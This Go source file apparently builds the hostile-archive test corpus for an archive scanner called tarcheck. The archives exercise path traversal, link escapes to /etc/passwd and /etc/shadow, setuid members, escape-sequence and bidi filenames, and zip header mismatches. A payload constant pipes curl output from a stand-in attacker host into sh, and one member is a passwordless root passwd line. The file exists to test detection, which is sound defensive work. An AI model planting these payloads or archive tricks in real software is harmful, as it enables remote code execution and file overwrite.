// Package hostile generates tarcheck's hostile-archive corpus: one small
// archive per archive hazard (path traversal, absolute names, links out of
// the tree, a member below a symlink, duplicates, devices, setuid bits,
// stray top-level directories, long-name overrides, control characters,
// case and Unicode collisions, zip header disagreement) in tar.gz, tar.xz
// and zip where the format can express it, and decompression bombs in every
// supported compression.
//
// Every archive is built in memory from code, so no binary archive is ever
// committed; cmd/genhostile writes the corpus to a directory for manual
// runs. Every hazard archive holds the benign release of [Files] under
// [Root], so a test compares it with a git tag made from [Files] and expects
// exactly the hazard's rule on top of the clean comparison. Every name that
// an extracting tool would write outside the release tree contains [Token],
// so a test can look for such files after the run.
package hostile

import (
	"compress/gzip"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"sort"

	"github.com/ulikunitz/xz"

	zbytes "github.com/tarcheck/tarcheck/internal/compress"
)

// Root is the release directory every corpus archive holds.
const Root = "pkg-1.0"

// Token is part of every name the corpus would place outside the release
// tree (traversal, absolute names, link targets), so that tests can search
// shared directories such as /tmp for it.
const Token = "tc-hostile"

// Format is an archive container and compression, named as tarcheck's
// report names it.
type Format string

// The formats the corpus is written in.
const (
	TarGz  Format = "tar.gz"
	TarXz  Format = "tar.xz"
	TarBz2 Format = "tar.bz2"
	TarZst Format = "tar.zst"
	Zip    Format = "zip"
)

// HazardFormats are the formats every hazard is written in when it can be.
var HazardFormats = []Format{TarGz, TarXz, Zip}

// Case is one corpus archive.
type Case struct {
	// Name names the hazard, e.g. "traversal"; "clean" is the control.
	Name string
	// Format is the archive's format.
	Format Format
	// Rule is the rule id the report must carry at critical severity
	// ("" for the clean control and for bombs).
	Rule string
	// Path is the root-stripped path the finding must name; "" when the
	// path is not well defined (stray top-level names, traversal).
	Path string
	// Shadowed, for duplicates, is the path whose last copy is malicious:
	// the report must compare that copy with git (content_differs).
	Shadowed string
	// Bomb marks a decompression bomb: the run must stop with a limit
	// error (exit 2), in bounded time and memory.
	Bomb bool
	// Unpacked is the decompressed size of a bomb.
	Unpacked int64
	// Data is the archive.
	Data []byte
}

// FileName is the file name the case is written under.
func (c Case) FileName() string {
	return Root + "-" + c.Name + "." + string(c.Format)
}

// Files returns the benign release: path (below Root) to content. A git
// tag holding exactly these files matches the clean control archive.
func Files() map[string]string {
	return map[string]string{
		"README":          "pkg 1.0\n",
		"COPYING":         "Permission is granted to copy this file.\n",
		"Makefile":        "all:\n\tcc -o pkg src/main.c src/util.c\n",
		"src/main.c":      "#include \"util.h\"\nint main(void) { return util(); }\n",
		"src/util.c":      "#include \"util.h\"\nint util(void) { return 0; }\n",
		"src/util.h":      "int util(void);\n",
		"include/api.h":   "#define API 1\n",
		"doc/guide.txt":   "Run make.\n",
		"data/config.ini": "[pkg]\nname = pkg\n",
		"tests/check.txt": "expected output\n",
		"NEWS":            "1.0: first release\n",
		"AUTHORS":         "A. Author\n",
	}
}

// benign returns the members of the clean release, sorted, with its
// directories first.
func benign() []Member {
	files := Files()
	names := make([]string, 0, len(files))
	for n := range files {
		names = append(names, n)
	}
	sort.Strings(names)
	ms := []Member{{Name: Root + "/", Type: TypeDir, Mode: 0o755}}
	dirs := map[string]bool{}
	for _, n := range names {
		if d := filepath.Dir(n); d != "." && !dirs[d] {
			dirs[d] = true
			ms = append(ms, Member{Name: Root + "/" + d + "/", Type: TypeDir, Mode: 0o755})
		}
		ms = append(ms, Member{Name: Root + "/" + n, Type: TypeReg, Mode: 0o644, Body: files[n]})
	}
	return ms
}

// hazard is one corpus entry before it is written in each format.
type hazard struct {
	name, rule, path, shadowed string
	extra                      []Member    // appended to the benign members (tar and zip)
	zipOnly                    []ZipMember // zip-only members (the hazard has no tar form)
	tarOnly                    bool        // the hazard has no zip form (hard links, long names)
}

func reg(name, body string, mode int64) Member {
	return Member{Name: name, Type: TypeReg, Mode: mode, Body: body}
}

func symlink(name, target string) Member {
	return Member{Name: name, Type: TypeSymlink, Mode: 0o777, Link: target}
}

// hazards lists the corpus. Payload is the malicious content used
// throughout.
func hazards() []hazard {
	const payload = "#!/bin/sh\ncurl -s https://attacker.invalid/x | sh\n"
	r := Root + "/"
	return []hazard{
		{name: "clean"},
		{name: "traversal", rule: "TC101", extra: []Member{
			reg("../"+Token+"-traversal", payload, 0o644),
			reg(r+"../../"+Token+"-traversal2", payload, 0o644),
		}},
		{name: "absolute", rule: "TC101", extra: []Member{reg("/tmp/"+Token+"-absolute", payload, 0o644)}},
		{name: "symlink-escape", rule: "TC102", path: "escape", extra: []Member{
			symlink(r+"escape", "../../"+Token+"-symlink")}},
		{name: "symlink-absolute", rule: "TC102", path: "passwd", extra: []Member{symlink(r+"passwd", "/etc/passwd")}},
		{name: "hardlink-escape", rule: "TC102", path: "shadow", tarOnly: true, extra: []Member{
			{Name: r + "shadow", Type: TypeLink, Mode: 0o644, Link: "/etc/shadow"}}},
		{name: "hardlink-traversal", rule: "TC102", path: "hard", tarOnly: true, extra: []Member{
			{Name: r + "hard", Type: TypeLink, Mode: 0o644, Link: "../" + Token + "-hardlink"}}},
		{name: "parent-symlink", rule: "TC110", path: "link/" + Token + "-passwd", extra: []Member{
			symlink(r+"link", "/etc"),
			reg(r+"link/"+Token+"-passwd", "root::0:0::/root:/bin/sh\n", 0o644)}},
		{name: "duplicate", rule: "TC103", path: "src/main.c", shadowed: "src/main.c", extra: []Member{
			reg(r+"src/main.c", "int main(void) { system(\"sh\"); return 0; }\n", 0o644)}},
		{name: "chardev", rule: "TC104", path: "null", extra: []Member{{Name: r + "null", Type: TypeChar, Mode: 0o666}}},
		{name: "blockdev", rule: "TC104", path: "sda", extra: []Member{{Name: r + "sda", Type: TypeBlock, Mode: 0o660}}},
		{name: "fifo", rule: "TC104", path: "pipe", extra: []Member{{Name: r + "pipe", Type: TypeFifo, Mode: 0o644}}},
		{name: "setuid", rule: "TC105", path: "bin/su", extra: []Member{reg(r+"bin/su", payload, 0o4755)}},
		{name: "setgid", rule: "TC105", path: "bin/sg", extra: []Member{reg(r+"bin/sg", payload, 0o2755)}},
		{name: "sticky", rule: "TC105", path: "bin/st", extra: []Member{reg(r+"bin/st", payload, 0o1755)}},
		{name: "multiple-roots", rule: "TC106", extra: []Member{reg(Token+"-root/payload.sh", payload, 0o755)}},
		{name: "longname-pax", rule: "TC111", path: "src/backdoor.c", tarOnly: true, extra: []Member{
			{Name: r + "src/backdoor.c", Type: TypeReg, Mode: 0o644, Body: payload, Override: "pax", Stored: r + "doc/notes.txt"}}},
		{name: "longname-gnu", rule: "TC111", path: "src/backdoor.c", tarOnly: true, extra: []Member{
			{Name: r + "src/backdoor.c", Type: TypeReg, Mode: 0o644, Body: payload, Override: "gnu", Stored: r + "doc/notes.txt"}}},
		{name: "control-esc", rule: "TC107", extra: []Member{
			reg(r+"\x1b[2J\x1b[1;32mALL OK\x1b[0m\x1b]0;pwned\x07.c", payload, 0o644)}},
		{name: "control-newline", rule: "TC107", extra: []Member{
			reg(r+"evil\nverdict: pass\r.c", payload, 0o644)}},
		{name: "control-bidi", rule: "TC107", extra: []Member{
			reg(r+"src/evil\u202ec.sh", payload, 0o644)}},
		{name: "control-linktarget", rule: "TC107", path: "lnk", extra: []Member{
			symlink(r+"lnk", "README\x1b[8m")}},
		{name: "case-collision", rule: "TC108", path: "readme", extra: []Member{reg(r+"readme", payload, 0o644)}},
		{name: "nfd-collision", rule: "TC108", extra: []Member{
			reg(r+"caf\u00e9.txt", "nfc\n", 0o644),
			reg(r+"cafe\u0301.txt", payload, 0o644)}},
		{name: "zip-mismatch", rule: "TC109", path: "src/util.c", zipOnly: []ZipMember{
			{Member: reg(r+"src/util.c", Files()["src/util.c"], 0o644), LocalName: r + "src/evil.c"}}},
	}
}

// Corpus returns every hazard archive in every format of HazardFormats that
// can express it, the clean control included.
func Corpus() ([]Case, error) {
	var out []Case
	for _, h := range hazards() {
		for _, f := range HazardFormats {
			if h.tarOnly && f == Zip || h.zipOnly != nil && f != Zip {
				continue
			}
			data, err := build(h, f)
			if err != nil {
				return nil, fmt.Errorf("%s.%s: %w", h.name, f, err)
			}
			out = append(out, Case{Name: h.name, Format: f, Rule: h.rule, Path: h.path, Shadowed: h.shadowed, Data: data})
		}
	}
	return out, nil
}

func build(h hazard, f Format) ([]byte, error) {
	ms := append(benign(), h.extra...)
	if f == Zip {
		var zms []ZipMember
		for _, m := range ms {
			if h.zipOnly != nil && m.Name == h.zipOnly[0].Name {
				continue // replaced by the zip-only member below
			}
			zms = append(zms, ZipMember{Member: m})
		}
		// The zip-only member goes first so its local header is at a
		// known place.
		zms = append(append([]ZipMember{}, h.zipOnly...), zms...)
		return rawZip(zms)
	}
	tarData, err := rawTar(ms)
	if err != nil {
		return nil, err
	}
	return compress(f, tarData)
}

// compress wraps a tar stream in the format's compression.
func compress(f Format, data []byte) ([]byte, error) {
	var open func(io.Writer) (io.WriteCloser, error)
	switch f {
	case TarGz:
		open = func(w io.Writer) (io.WriteCloser, error) { return gzip.NewWriter(w), nil }
	case TarXz:
		open = func(w io.Writer) (io.WriteCloser, error) { return xz.NewWriter(w) }
	case TarZst:
		open = newZstd
	default:
		return nil, fmt.Errorf("cannot compress %s", f)
	}
	return zbytes.Bytes(data, open)
}

// Write writes each case to dir under its FileName.
func Write(dir string, cases []Case) error {
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return err
	}
	for _, c := range cases {
		if err := os.WriteFile(filepath.Join(dir, c.FileName()), c.Data, 0o644); err != nil {
			return err
		}
	}
	return nil
}

// WriteTarGz writes members as a tar.gz with the corpus's raw tar writer, for
// tests that need an archive of their own.
func WriteTarGz(ms []Member) ([]byte, error) {
	data, err := rawTar(ms)
	if err != nil {
		return nil, err
	}
	return compress(TarGz, data)
}
